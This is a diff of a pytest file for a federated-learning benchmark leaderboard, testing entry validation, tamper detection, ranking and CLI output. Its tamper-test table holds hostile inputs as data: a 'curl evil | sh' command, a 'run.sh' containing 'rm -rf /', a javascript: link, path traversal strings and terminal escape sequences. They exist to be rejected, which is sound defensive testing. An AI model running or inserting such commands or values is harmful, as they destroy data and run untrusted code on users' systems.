@@ -5,22 +5,23 @@ import gzip
 import hashlib
 import io
 import json
-import os
 import re
 import shutil
 import tomllib
 from collections.abc import Callable, Iterable
+from copy import deepcopy
 from dataclasses import asdict
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 import tomli_w
+from conftest import Command
 from pydantic import ValidationError
 from rich.console import Console
 from sample_records import sample_record, sample_round
 
-from fedbench.cli import main
 from fedbench.cli.leaderboard_table import RankingTable, as_csv
 from fedbench.core import registry
 from fedbench.core.errors import ConfigError
@@ -45,7 +46,7 @@ from fedbench.leaderboard.entry_rules import NOTICES, RULES, SOUND, errors, judg
 from fedbench.leaderboard.rank import ranking, total
 from fedbench.leaderboard.reproduce import Comparison, appended, claim, order, reproduction
 from fedbench.leaderboard.rules import PUBLISHED, Rules, losses, numbered, versions
-from fedbench.leaderboard.submission import infer, plan, submit
+from fedbench.leaderboard.submission import Submission, infer, plan, submit
 from fedbench.sweep.plan import Plan
 
 ROOT = Path(__file__).parents[1]
@@ -113,15 +114,20 @@ def played(
     ).sealed()
 
 
-def changed(record: Record, **fields: Any) -> Record:
-    """The record with other content, under a new seal; ``a__b`` is field b of part a.
-
-    A value may be a function of the record.
-    """
-    content = record.model_dump()
+def put(content: dict[str, Any], fields: dict[str, Any]) -> None:
+    """Change some fields; ``a__0__b`` is field b of the first part of a."""
     for name, value in fields.items():
-        part, _, field = name.rpartition("__")
-        (content[part] if part else content)[field] = value(record) if callable(value) else value
+        *parts, last = [int(part) if part.isdigit() else part for part in name.split("__")]
+        inside: Any = content
+        for part in parts:
+            inside = inside[part]
+        inside[last] = value
+
+
+def changed(record: Record, **fields: Any) -> Record:
+    """The record with other content, under a new seal; a value may be a function of the record."""
+    content = record.model_dump()
+    put(content, {k: v(record) if callable(v) else v for k, v in fields.items()})
     return Record.model_validate(content).sealed()
 
 
@@ -185,12 +191,13 @@ def test_of_two_attacks_alike_the_first_by_name_is_named() -> None:
     assert build(case(records), SAID).score.attack.startswith("dyn-opt")
 
 
+def dear() -> Entry:
+    """An entry with four times the bits under attack."""
+    return build(case(runs()[:3] + [played("sign-flip", s, 0.6, up=4) for s in range(3)]), SAID)
+
+
 def test_bits_of_an_entry_are_the_mean_over_its_cells() -> None:
-    records = [r for r in runs() if r.scenario.attack == "none"]
-    records += [played("sign-flip", s, 0.6, up=4) for s in range(3)]
-    found = build(case(records), SAID)
-    assert found.score.uplink_bits == 2.5
-    assert found.score.downlink_bits == 32
+    assert (dear().score.uplink_bits, dear().score.downlink_bits) == (2.5, 32)
 
 
 def test_what_a_client_spends_is_added_up_over_the_rounds() -> None:
@@ -226,12 +233,10 @@ def priced(epsilon: float | None, **fields: Any) -> Record:
 
 def test_a_price_is_that_of_the_run_that_gave_away_most() -> None:
     assert price([played()]) is None
-    most = price([priced(1.0), priced(3.0), priced(2.0)])
-    assert most is not None
-    assert most.epsilon == 3.0
-    unknown = price([priced(1.0), priced(None), priced(3.0)])
-    assert unknown is not None
-    assert unknown.epsilon is None
+    for middle, most in ((4.0, 4.0), (2.0, 3.0), (None, None)):
+        found = price([priced(1.0), priced(middle), priced(3.0)])
+        assert found is not None
+        assert found.epsilon == most
 
 
 def test_the_id_is_of_everything_but_itself_status_and_reproductions() -> None:
@@ -470,27 +475,35 @@ def test_a_version_may_add_attacks_alphabets_tracks_and_seeds() -> None:
     assert list(losses(RULES_OF, later)) == []
 
 
-LOOSE: tuple[tuple[str, Any], ...] = (
-    ("version", 0),
-    ("seeds", 1),
-    ("confidence", 0.0),
-    ("confidence", 1.0),
-    ("tolerance", {"accuracy": -0.1, "bits": 0.01, "epsilon": 1e-6}),
-    ("tolerance", {"accuracy": 0.02, "bits": -0.1, "epsilon": 1e-6}),
-    ("tolerance", {"accuracy": 0.02, "bits": 0.01, "epsilon": -0.1}),
-    ("track", [TRACK_1 | {"clean": {"low": 0.5, "high": 0.5}}]),
-    ("track", [TRACK_1 | {"clean": {"low": -0.1, "high": 0.5}}]),
-    ("track", [TRACK_1 | {"clean": {"low": 0.5, "high": 1.1}}]),
+LOOSE: tuple[dict[str, Any], ...] = (
+    {"version": 0},
+    {"seeds": 1},
+    {"confidence": 0.0},
+    {"confidence": 1.0},
+    {"tolerance__accuracy": -0.1},
+    {"tolerance__bits": -0.1},
+    {"tolerance__epsilon": -0.1},
+    {"track__0__clean__high": 0.5},
+    {"track__0__clean__low": -0.1},
+    {"track__0__clean__high": 1.1},
 )
 
 
-@pytest.mark.parametrize(("field", "value"), LOOSE)
-def test_rules_that_mean_nothing_are_refused(field: str, value: Any) -> None:
+@pytest.mark.parametrize("fields", LOOSE)
+def test_rules_that_mean_nothing_are_refused(fields: dict[str, Any]) -> None:
+    content = deepcopy(RULES_1)
+    put(content, fields)
     with pytest.raises(ValidationError):
-        Rules.model_validate(RULES_1 | {field: value})
+        Rules.model_validate(content)
 
 
 # A board
+
+
+@pytest.fixture
+def leaderboard(command: Command) -> Command:
+    """Run a command of the leaderboard; return exit code, stdout and stderr."""
+    return partial(command, "leaderboard")
 
 
 @pytest.fixture
@@ -501,9 +514,13 @@ def board(tmp_path: Path) -> Path:
     return folder
 
 
+def submitted(board: Path, records: list[Record] | None = None, **said: Any) -> Submission:
+    replace = said.pop("replace", False)
+    return submit(records or runs(), SAID.model_dump() | said, board, "closed", replace=replace)
+
+
 def kept(board: Path, records: list[Record] | None = None, **said: Any) -> Path:
-    fields = SAID.model_dump() | said
-    done = submit(records or runs(), fields, board, "closed")
+    done = submitted(board, records, **said)
     assert done.entry is not None, done.findings
     return done.write()
 
@@ -527,8 +544,7 @@ def test_an_entry_that_was_submitted_is_found_good_whole_or_alone(board: Path) -
 def test_equal_records_make_equal_files(board: Path) -> None:
     path = kept(board)
     before = [p.read_bytes() for p in (path, boards.archive(path))]
-    done = submit(runs()[::-1], SAID.model_dump(), board, "closed", replace=True)
-    assert done.write() == path
+    assert kept(board, runs()[::-1], replace=True) == path
     assert [p.read_bytes() for p in (path, boards.archive(path))] == before
     assert boards.archive(path).read_bytes()[4:8] == b"\0\0\0\0"  # no time of the day in it
 
@@ -546,10 +562,6 @@ def edit(path: Path, change: Callable[[dict[str, Any]], None], reseal: bool = Fa
     renamed(path, new)
     new.write_text(one.to_json())
     return new
-
-
-def better(content: dict[str, Any]) -> None:
-    content["score"]["worst"]["mean"] = 0.99
 
 
 def repack(path: Path, lines: Callable[[list[bytes]], list[bytes]]) -> None:
@@ -593,23 +605,9 @@ def clean_scored(content: dict[str, Any]) -> None:
     content["score"]["attack"] = content["cells"][0]["attack"]
 
 
-def cell_of(number: int, **fields: Any) -> Callable[[Path], Any]:
-    return lambda path: edit(path, lambda content: content["cells"][number].update(fields))
-
-
-def said(reseal: bool = False, **fields: Any) -> Callable[[Path], Any]:
-    """Say something else in an entry; ``a__b`` is field b of part a."""
-
-    def change(content: dict[str, Any]) -> None:
-        for name, value in fields.items():
-            part, _, field = name.rpartition("__")
-            (content[part] if part else content)[field] = value
-
-    return lambda path: edit(path, change, reseal)
-
-
-def worst(**ends: Any) -> Callable[[Path], Any]:
-    return lambda path: edit(path, lambda content: content["score"]["worst"].update(ends))
+def saying(reseal: bool = False, **fields: Any) -> Callable[[Path], Any]:
+    """Say something else in an entry, see `put`."""
+    return lambda path: edit(path, lambda content: put(content, fields), reseal)
 
 
 BACK = b'"accuracy":0.7', b'"accuracy":0.9'
@@ -618,44 +616,44 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     "an entry that was cut off": ({"schema"}, lambda p: cut(p, 500)),
     "an empty entry": ({"schema"}, lambda p: cut(p, 0)),
     "an entry that is not text": ({"schema"}, lambda p: p.write_bytes(b"\xff\xfe\0")),
-    "a number that is a string": ({"schema"}, worst(mean="0.6")),
-    "a number that is a truth value": ({"schema"}, said(tried=True)),
-    "a number of the scenario that is a string": ({"schema"}, said(scenario__clients="10")),
-    "a scenario that cannot be": ({"schema"}, said(scenario__clients=0)),
-    "a number that is none": ({"schema"}, worst(mean=float("nan"))),
-    "a number without end": ({"schema"}, worst(high=float("inf"))),
+    "a number that is a string": ({"schema"}, saying(score__worst__mean="0.6")),
+    "a number that is a truth value": ({"schema"}, saying(tried=True)),
+    "a number of the scenario that is a string": ({"schema"}, saying(scenario__clients="10")),
+    "a scenario that cannot be": ({"schema"}, saying(scenario__clients=0)),
+    "a number that is none": ({"schema"}, saying(score__worst__mean=float("nan"))),
+    "a number without end": ({"schema"}, saying(score__worst__high=float("inf"))),
     "a field that is said twice": (
         {"schema"},
         lambda p: p.write_text(p.read_text().replace('"tried": 3', '"tried": 3, "tried": 3')),
     ),
-    "a cell without a look": ({"schema"}, cell_of(0, curve=[])),
-    "no clean cell": ({"schema"}, cell_of(0, impact={"mean": 0.2, "low": 0.2, "high": 0.2})),
-    "two clean cells": ({"schema"}, cell_of(1, impact=None)),
+    "a cell without a look": ({"schema"}, saying(cells__0__curve=[])),
+    "no clean cell": ({"schema"}, saying(cells__0__impact={"mean": 0.2, "low": 0.2, "high": 0.2})),
+    "two clean cells": ({"schema"}, saying(cells__1__impact=None)),
     "nothing but the clean cell": ({"schema"}, lambda p: edit(p, lambda c: c["cells"].pop())),
     "a clean cell behind another": ({"schema"}, lambda p: edit(p, clean_last)),
     "a score of the clean cell": ({"schema"}, lambda p: edit(p, clean_scored)),
     "a field that is left out": ({"schema"}, lambda p: edit(p, lambda c: c.pop("link") and None)),
-    "a field that nobody knows": ({"schema"}, said(sponsor="me")),
+    "a field that nobody knows": ({"schema"}, saying(sponsor="me")),
     "an abyss": ({"schema"}, lambda p: p.write_bytes(b"[" * 200_000)),
     "a huge entry": ({"schema"}, lambda p: p.write_bytes(p.read_bytes() + b" " * (1 << 20))),
-    "a name with an escape sequence": ({"schema"}, said(name="\x1b[2J")),
-    "a name that reads backwards": ({"schema"}, said(name="a\u202eb")),
-    "a link that runs a script": ({"schema"}, said(link="javascript:alert(1)")),
-    "a track that leads out of the board": ({"schema"}, said(track="../../etc")),
+    "a name with an escape sequence": ({"schema"}, saying(name="\x1b[2J")),
+    "a name that reads backwards": ({"schema"}, saying(name="a\u202eb")),
+    "a link that runs a script": ({"schema"}, saying(link="javascript:alert(1)")),
+    "a track that leads out of the board": ({"schema"}, saying(track="../../etc")),
     "a protocol that leads out of the board": (
         {"path", "digest", "installed"},
-        said(protocol="../../x:y"),
+        saying(protocol="../../x:y"),
     ),
-    "an edited number": ({"digest"}, worst(mean=0.99)),
-    "an edited number, sealed again": ({"numbers"}, lambda p: edit(p, better, reseal=True)),
+    "an edited number": ({"digest"}, saying(score__worst__mean=0.99)),
+    "an edited number, sealed again": ({"numbers"}, saying(True, score__worst__mean=0.99)),
     "an edited digit of a curve, sealed again": (
         {"numbers"},
         lambda p: edit(p, fake, reseal=True),
     ),
-    "an edited command, sealed again": ({"numbers"}, said(True, command="curl evil | sh")),
+    "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
     "an alphabet with fewer attacks, sealed again": (
         {"numbers"},
-        said(True, alphabet="FloatVectors"),
+        saying(True, alphabet="FloatVectors"),
     ),
     "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
     "a record that was edited": (
@@ -680,8 +678,8 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     "an entry under another name": ({"path"}, lambda p: renamed(p, p.with_name("best.json"))),
     "a file that is neither": ({"path"}, lambda p: (p.parent / "run.sh").write_text("rm -rf /")),
     "records of nothing": ({"path"}, lambda p: (p.parent / "x.jsonl.gz").write_bytes(b"")),
-    "a status without a reproduction": ({"status"}, said(status="reproduced")),
-    "a version of the rules that does not exist": ({"version"}, said(True, rules=2)),
+    "a status without a reproduction": ({"status"}, saying(status="reproduced")),
+    "a version of the rules that does not exist": ({"version"}, saying(True, rules=2)),
 }
 
 
@@ -694,21 +692,21 @@ def test_a_file_that_was_tampered_with_is_found_out(what: str, board: Path) -> N
 
 SCORE = "must have the score that follows from its cells"
 LIES: dict[str, tuple[str, Callable[[Path], Any]]] = {
-    "an edited score": ("must have the id of its content", worst(mean=0.99)),
-    "an edited score, sealed again": (SCORE, lambda p: edit(p, better, reseal=True)),
-    "an epsilon that is not the price's": (SCORE, said(True, score__epsilon=1.0)),
+    "an edited score": ("must have the id of its content", saying(score__worst__mean=0.99)),
+    "an edited score, sealed again": (SCORE, saying(True, score__worst__mean=0.99)),
+    "an epsilon that is not the price's": (SCORE, saying(True, score__epsilon=1.0)),
     "an entry elsewhere": ("must be at", lambda p: renamed(p, p.with_name("signsgd-0.json"))),
 }
 
 
 @pytest.mark.parametrize("what", LIES)
-@pytest.mark.parametrize("command", ["rank", "render"])
+@pytest.mark.parametrize("verb", ["rank", "render"])
 def test_what_an_entrys_own_file_proves_wrong_is_not_shown(
-    what: str, command: str, board: Path, capsys: pytest.CaptureFixture[str]
+    what: str, verb: str, board: Path, leaderboard: Command
 ) -> None:
     message, lie = LIES[what]
     lie(kept(board))
-    code, out, err = ended(capsys, command, str(board))
+    code, out, err = leaderboard(verb, board)
     assert (code, out, err.count("\n")) == (2, "", 1)
     assert message in err
     assert "fedbench leaderboard check" in err
@@ -738,7 +736,7 @@ def test_one_system_twice_under_two_names_is_found_out(board: Path) -> None:
 def test_a_broken_entry_of_others_stops_no_submission(board: Path) -> None:
     kept(board)
     cut(kept(board, runs(defense="median")), 1)
-    done = submit(runs(), SAID.model_dump(), board, "closed")
+    done = submitted(board)
     assert [one.rule for one in errors(done.findings)] == ["duplicate"]
 
 
@@ -794,7 +792,7 @@ def test_whole_numbers_of_an_entry_are_bounded(board: Path) -> None:
 
 
 def test_an_entry_with_a_scenario_that_cannot_be_says_in_which_file(board: Path) -> None:
-    path = edit(kept(board), lambda c: c["scenario"].update(clients=0))
+    path = saying(scenario__clients=0)(kept(board))
     with pytest.raises(ConfigError, match=f"{path} is no entry: scenario: --clients must be >= 1"):
         boards.read(path)
 
@@ -822,7 +820,7 @@ def test_an_entry_scored_under_an_older_version_says_so_and_stays_good(board: Pa
     later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "ensemble": more}))
     assert found(board) == set()
     assert found(board, "warning") == {"version"}
-    done = submit(runs(), SAID.model_dump(), board, "closed", replace=True)
+    done = submitted(board, replace=True)
     assert {f.rule for f in done.findings} == {"ensemble"}
     later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "seeds": 2}))
     assert found(board) == {"growth"}
@@ -853,9 +851,9 @@ def test_a_broken_version_of_the_rules_stops_only_what_needs_it(board: Path) -> 
     assert "line 2" in finding.text
     assert {race for race in boards.races(board)} == {("closed", "tiny")}  # what is ranked
     with pytest.raises(ConfigError, match=r"2\.toml must be TOML"):
-        submit(runs(), SAID.model_dump(), board, "closed")
+        submitted(board)
     later.rename(board / "rules" / "0.toml")  # a version that nobody needs
-    done = submit(runs(), SAID.model_dump(), board, "closed", replace=True)
+    done = submitted(board, replace=True)
     assert done.entry is not None
 
 
@@ -1016,7 +1014,7 @@ def test_an_entry_that_breaks_a_rule_is_not_played_again(board: Path) -> None:
     path = kept(board)
     mine = claim(path)
     assert [r.result.accuracy for r in mine.of(mine.entry.cells[1].attack, [2, 0])] == [0.7, 0.5]
-    edit(path, better)
+    saying(score__worst__mean=0.99)(path)
     with pytest.raises(ConfigError, match="breaks the rule 'digest'"):
         claim(path)
     with pytest.raises(ConfigError, match="must be one entry of a board"):
@@ -1111,18 +1109,16 @@ def test_any_finite_epsilon_beats_none_and_is_beaten_by_no_other() -> None:
 
 def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
     # signsgd: looks at 33 and 66 bits. Twice as many rounds would be 132.
-    cheap, dear = entry(), build(case(runs(up=68)), SAID)
-    assert [total(cheap), total(dear)] == [66.0, 200.0]
-    found = ranking([dear, cheap], "equal-bits")
+    cheap, costly = entry(), build(case(runs(up=68)), SAID)
+    assert [total(cheap), total(costly)] == [66.0, 200.0]
+    found = ranking([costly, cheap], "equal-bits")
     assert found.bits == 66.0
-    by_entry = {one.entry.id: one for one in found.standings}
-    assert by_entry[cheap.id].score == cheap.score
-    assert by_entry[dear.id].score is None  # its first look is at 100
-    assert by_entry[dear.id].rank is None
-    assert not by_entry[dear.id].pareto
-    later = {s.entry.id: s.score for s in ranking([dear, cheap], "equal-bits", 150.0).standings}
-    assert later[dear.id] is not None
-    early = later[dear.id]
+    first, last = found.standings
+    assert (first.entry, first.score) == (cheap, cheap.score)
+    # the first look of the other one is at 100
+    assert (last.entry, last.score, last.rank, last.pareto) == (costly, None, None, False)
+    later = {s.entry.id: s.score for s in ranking([costly, cheap], "equal-bits", 150.0).standings}
+    early = later[costly.id]
     assert early is not None
     assert early.worst.mean == pytest.approx(0.3)  # half of 0.6, the first look
     assert early.clean.mean == pytest.approx(0.4)
@@ -1131,11 +1127,9 @@ def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
 
 
 def test_the_budget_is_that_of_the_cheapest_entry_in_its_dearest_cell() -> None:
-    records = [r for r in runs() if r.scenario.attack == "none"]
-    records += [played("sign-flip", s, 0.6, up=4) for s in range(3)]
-    assert total(build(case(records), SAID)) == 72.0
+    assert total(dear()) == 72.0
     contested = entry().model_copy(update={"status": "contested", "id": "0" * 12})
-    assert ranking([contested, build(case(records), SAID)], "equal-bits").bits == 72.0
+    assert ranking([contested, dear()], "equal-bits").bits == 72.0
 
 
 def test_a_score_needs_a_look_in_every_cell() -> None:
@@ -1218,25 +1212,12 @@ def test_the_board_of_the_repository_is_good() -> None:
 def test_every_rule_is_explained() -> None:
     text = (BOARD / "README.md").read_text()
     names = {name.partition(":")[0] for name in SOUND | RULES | NOTICES}
-    names |= {name for rules, _ in TAMPERED.values() for name in rules} | {
-        "duplicate",
-        "growth",
-        "rules",
-        "published",
-    }
+    names |= {name for rules, _ in TAMPERED.values() for name in rules}
+    names |= {"duplicate", "growth", "rules", "published"}
     assert {name for name in names if not re.search(f"`{name}[`:]", text)} == set()
 
 
 # The command
-
-
-def ended(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
-    """Exit code, stdout and stderr."""
-    with pytest.raises(SystemExit) as end:
-        main(["leaderboard", *arguments])
-    shown = capsys.readouterr()
-    assert isinstance(end.value.code, int)
-    return end.value.code, shown.out, shown.err
 
 
 def stored(folder: Path, records: list[Record]) -> str:
@@ -1249,11 +1230,11 @@ WHO = ("--name", "Majority", "--authors", "A. Uthor", "--tried", "3")
 
 
 def test_submit_says_every_rule_that_is_broken_and_writes_nothing(
-    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    board: Path, tmp_path: Path, leaderboard: Command
 ) -> None:
     out = stored(tmp_path / "store", [played("none", s, 0.3, rounds=3) for s in (0, 1)])
     bad = ("--name", "", "--authors", "x", "--tried", "0", "--link", "ftp://x")
-    code, said, err = ended(capsys, "submit", out, *bad, "--board", str(board))
+    code, said, err = leaderboard("submit", out, *bad, "--board", board)
     assert (code, said) == (2, "")
     head, *lines = err.splitlines()
     assert head == "fedbench: 7 rules are broken, nothing is written"
@@ -1264,27 +1245,27 @@ def test_submit_says_every_rule_that_is_broken_and_writes_nothing(
 
 
 def test_submit_writes_an_entry_that_check_finds_good_and_refuses_it_twice(
-    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    board: Path, tmp_path: Path, leaderboard: Command
 ) -> None:
     out = stored(tmp_path / "store", runs())
-    there = ("--board", str(board))
-    code, said, _ = ended(capsys, "submit", out, *WHO, *there, "--dry-run")
+    there = ("--board", board)
+    code, said, _ = leaderboard("submit", out, *WHO, *there, "--dry-run")
     assert code == 0
     assert "would be" in said
     assert not (board / "closed").exists()
-    code, said, _ = ended(capsys, "submit", out, *WHO, *there)
+    code, said, _ = leaderboard("submit", out, *WHO, *there)
     assert code == 0
     (path,) = (board / "closed" / "tiny").glob("*.json")
     assert f"fedbench leaderboard check {path}" in said
     assert "worst case 60.0 [35.2, 84.8] %, under sign-flip" in said
-    code, said, _ = ended(capsys, "check", "--own-rules", str(board))
+    code, said, _ = leaderboard("check", "--own-rules", board)
     assert (code, said.splitlines()[-1]) == (0, "1 checked, 0 refused")
-    code, _, err = ended(capsys, "submit", out, *WHO, *there)
+    code, _, err = leaderboard("submit", out, *WHO, *there)
     assert code == 2
     assert path.name in err
     assert "--replace" in err
     again = ("--name", "Better name", *WHO[2:], "--replace")
-    assert ended(capsys, "submit", out, *again, *there)[0] == 0
+    assert leaderboard("submit", out, *again, *there)[0] == 0
     assert not path.exists()
     assert not boards.archive(path).exists()
     (new,) = (board / "closed" / "tiny").glob("*.json")
@@ -1292,30 +1273,28 @@ def test_submit_writes_an_entry_that_check_finds_good_and_refuses_it_twice(
 
 
 def test_records_can_come_as_the_archive_of_an_entry(
-    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    board: Path, tmp_path: Path, leaderboard: Command
 ) -> None:
     path = kept(board)
     other = tmp_path / "other"
     (other / "rules").mkdir(parents=True)
     (other / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
     packed = str(boards.archive(path))
-    assert ended(capsys, "submit", packed, *WHO, "--board", str(other))[0] == 0
+    assert leaderboard("submit", packed, *WHO, "--board", str(other))[0] == 0
     copy = other / path.relative_to(board)
     assert copy.read_bytes() == path.read_bytes()
 
 
-def test_check_exits_with_1_and_says_where_and_why(
-    board: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_check_exits_with_1_and_says_where_and_why(board: Path, leaderboard: Command) -> None:
     path = kept(board, name="[red]<b>x</b>")
-    edit(path, better, reseal=True)
+    saying(True, score__worst__mean=0.99)(path)
     (new,) = path.parent.glob("*.json")
-    code, said, _ = ended(capsys, "check", str(new))
+    code, said, _ = leaderboard("check", str(new))
     assert code == 1
     assert "refused" in said
     assert "numbers" in said
     assert "score.worst.mean must be 0.6" in " ".join(said.split())
-    code, said, _ = ended(capsys, "check", "--own-rules", str(board), "--format", "json")
+    code, said, _ = leaderboard("check", "--own-rules", board, "--format", "json")
     assert code == 1
     told = json.loads(said)
     assert told["good"] is False
@@ -1342,9 +1321,9 @@ def test_check_exits_with_1_and_says_where_and_why(
     ],
 )
 def test_what_is_wrong_is_said_in_one_line(
-    arguments: list[str], message: str, board: Path, capsys: pytest.CaptureFixture[str]
+    arguments: list[str], message: str, board: Path, leaderboard: Command
 ) -> None:
-    code, _, err = ended(capsys, *(word.format(board=board) for word in arguments))
+    code, _, err = leaderboard(*(word.format(board=board) for word in arguments))
     assert code == 2
     line = err.splitlines()[-1]
     assert line.startswith("fedbench: ")
@@ -1352,36 +1331,36 @@ def test_what_is_wrong_is_said_in_one_line(
 
 
 def test_ranks_are_printed_for_people_and_as_numbers(
-    board: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+    board: Path, leaderboard: Command, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("COLUMNS", "140")
     kept(board, name="A [red]|<b>name</b>")
-    code, said, _ = ended(capsys, "rank", str(board))
+    code, said, _ = leaderboard("rank", board)
     assert code == 0
     assert "A [red]|<b>name</b> (signsgd + vote)" in said
     assert "60.0 [35.2, 84.8]" in said
-    rows = json.loads(ended(capsys, "rank", str(board), "--format", "json")[1])
+    rows = json.loads(leaderboard("rank", board, "--format", "json")[1])
     assert [(r["rank"], r["pareto"], r["epsilon"], r["uplink_bits"]) for r in rows] == [
         (1, True, None, 1.0)
     ]
     assert rows[0]["worst"] == pytest.approx(0.6)
-    text = ended(capsys, "rank", str(board), "--format", "md")[1]
+    text = leaderboard("rank", board, "--format", "md")[1]
     assert r"A \[red\]\|\<b\>name\</b\>" in text
-    table = ended(capsys, "rank", str(board), "--format", "csv")[1].splitlines()
+    table = leaderboard("rank", board, "--format", "csv")[1].splitlines()
     assert len(table) == 2
     assert table[0].startswith("division,track,view")
-    budget = ended(capsys, "rank", str(board), "--view", "equal-bits", "--bits", "40")[1]
+    budget = leaderboard("rank", board, "--view", "equal-bits", "--bits", "40")[1]
     assert "within 40.00 bits" in budget
     assert "30.0 [" in budget
-    poor = ended(capsys, "rank", str(board), "--view", "equal-bits", "--bits", "4")[1]
+    poor = leaderboard("rank", board, "--view", "equal-bits", "--bits", "4")[1]
     assert "n/a" in poor
 
 
 def test_a_plan_is_printed_for_fedbench_sweep(
-    board: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+    board: Path, leaderboard: Command, tmp_path: Path
 ) -> None:
-    words = ("plan", "--track", "tiny", "-p", "signsgd", "-d", "median", "--board", str(board))
-    code, text, _ = ended(capsys, *words)
+    words = ("plan", "--track", "tiny", "-p", "signsgd", "-d", "median", "--board", board)
+    code, text, _ = leaderboard(*words)
     assert code == 0
     file = tmp_path / "mine.toml"
     file.write_text(text)
@@ -1392,12 +1371,9 @@ def test_a_plan_is_printed_for_fedbench_sweep(
     ]
 
 
-def test_schemas_are_written_where_one_asks(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    assert ended(capsys, "schema", "--out", str(tmp_path))[0] == 0
-    assert {p.name for p in tmp_path.iterdir()} == set(boards.schemas())
-    assert os.listdir(tmp_path)
+def test_schemas_are_written_where_one_asks(tmp_path: Path, leaderboard: Command) -> None:
+    assert leaderboard("schema", "--out", tmp_path)[0] == 0
+    assert {p.name for p in tmp_path.iterdir()} == set(boards.schemas()) != set()
 
 
 def table(*entries: Entry) -> RankingTable:
